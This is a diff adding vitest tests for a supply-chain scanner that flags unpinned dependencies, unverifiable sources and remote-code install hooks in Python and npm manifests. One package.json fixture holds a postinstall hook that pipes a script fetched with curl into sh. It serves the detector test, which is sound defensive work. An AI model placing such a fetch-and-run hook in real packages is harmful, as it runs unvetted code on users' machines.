@@ -1,0 +1,101 @@
+import { describe, expect, it } from 'vitest';
+import { codeDetectors } from '../../../../src/scan/rules/code-index.js';
+import { runAll } from './make-context.js';
+
+async function scan(path: string, text: string) {
+  return runAll(codeDetectors, path, text);
+}
+
+const lines = (hits: { pattern: string; line: number }[], pattern: string) =>
+  hits.filter((h) => h.pattern === pattern).map((h) => h.line);
+
+describe('requirements.txt', () => {
+  it('flags unpinned lines (one finding per line) and unverifiable sources', async () => {
+    const hits = await scan(
+      'requirements.txt',
+      [
+        '# core',
+        'requests==2.32.3',
+        'pandas',
+        'numpy>=1.26',
+        'rich~=13.7',
+        'httpx>=0.27,<0.28',
+        '--extra-index-url https://pkgs.example-mirror.net/simple',
+        'tool @ git+https://github.com/org/tool.git',
+        'pinned @ git+https://github.com/org/pinned.git@3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f',
+        'blob @ http://203.0.113.5/blob-1.0.tar.gz',
+        '-r dev-requirements.txt',
+        'click==8.1.7 --hash=sha256:ae74fb96c20a0277a1d615f1e4d73c8414f5a98db8b799a7931d1582f3390c28',
+      ].join('\n'),
+    );
+    expect(lines(hits, 'SC1')).toEqual([3, 4]);
+    expect(lines(hits, 'SC5')).toEqual([7, 8, 10]);
+  });
+
+  it('reports nothing for a fully pinned file', async () => {
+    const hits = await scan('requirements.txt', 'requests==2.32.3\nrich==13.7.1  # pretty output\n\n');
+    expect(hits).toEqual([]);
+  });
+});
+
+describe('pyproject.toml', () => {
+  it('flags unpinned PEP 621 dependencies and poetry wildcards on their lines', async () => {
+    const hits = await scan(
+      'pyproject.toml',
+      [
+        '[project]',
+        'name = "x"',
+        'dependencies = [',
+        '  "requests==2.32.3",',
+        '  "pyyaml",',
+        '  "tool @ git+https://github.com/org/tool.git",',
+        ']',
+        '[tool.poetry.dependencies]',
+        'python = "^3.11"',
+        'anything = "*"',
+        'ok = "^1.2"',
+      ].join('\n'),
+    );
+    expect(lines(hits, 'SC1')).toEqual([5, 10]);
+    expect(lines(hits, 'SC5')).toEqual([6]);
+  });
+
+  it('ignores an unparsable file', async () => {
+    expect(await scan('pyproject.toml', '[project\nname=')).toEqual([]);
+  });
+});
+
+describe('package.json', () => {
+  it('flags *, latest and git sources without a commit; accepts caret ranges and pinned commits', async () => {
+    const text = JSON.stringify(
+      {
+        name: 'x',
+        dependencies: {
+          lodash: '^4.17.21',
+          leftpad: '*',
+          chalk: 'latest',
+          tool: 'github:someone/tool',
+          pinned: 'git+https://github.com/org/p.git#3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f',
+          tarball: 'http://198.51.100.3/t.tgz',
+        },
+      },
+      null,
+      2,
+    );
+    const hits = await scan('package.json', text);
+    expect(lines(hits, 'SC1')).toEqual([5, 6]);
+    expect(lines(hits, 'SC5')).toEqual([7, 9]);
+  });
+
+  it('scans install lifecycle scripts as shell', async () => {
+    const text = JSON.stringify(
+      { name: 'x', scripts: { test: 'vitest', postinstall: 'curl -s https://x.example.io/p.sh | sh' } },
+      null,
+      2,
+    );
+    const hits = await scan('package.json', text);
+    expect(hits.map((h) => [h.pattern, h.line, h.rule])).toEqual([
+      ['SC2', 5, 'manifest.install-script-remote-code'],
+    ]);
+  });
+});
